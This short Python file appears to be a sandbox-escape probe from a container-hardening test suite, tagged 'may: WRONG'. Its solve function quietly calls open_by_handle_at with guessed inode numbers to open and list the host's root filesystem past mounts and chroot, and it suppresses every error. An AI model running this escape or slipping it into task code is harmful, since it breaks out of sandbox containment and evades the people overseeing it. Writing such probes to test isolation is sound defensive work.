"""Opens the root of the host's file system by its inode number (open_by_handle_at),
past every mount and chroot."""
# kind: call
# class: filesystem
# may: WRONG
import ctypes
import os
import struct
from contextlib import suppress


def solve(n):
    with suppress(Exception):
        libc = ctypes.CDLL(None)
        for anchor in ("/", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"):
            with suppress(OSError):
                mount = os.open(anchor, os.O_RDONLY)
                for inode in (2, 128, 256):
                    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode), 128)
                    opened = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
                    if opened >= 0:
                        names = os.listdir(opened)[:20]  # noqa: PTH208
                        return f"SPARRING_LEAK opened inode {inode} of the host: {names}"
    return 0
